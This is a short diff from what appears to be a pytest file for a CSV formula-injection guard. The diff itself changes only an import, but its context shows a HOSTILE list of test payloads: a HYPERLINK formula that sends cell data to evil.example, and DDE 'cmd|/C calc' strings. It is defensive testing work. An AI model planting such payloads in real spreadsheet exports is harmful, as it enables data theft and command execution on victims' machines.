@@ -11,8 +11,8 @@ from pathlib import Path
 
 import pytest
 
-from conftest import cuegraph_cmd
 from cuegraph.csvguard import FORMULA_STARTS
+from support import cuegraph_cmd
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
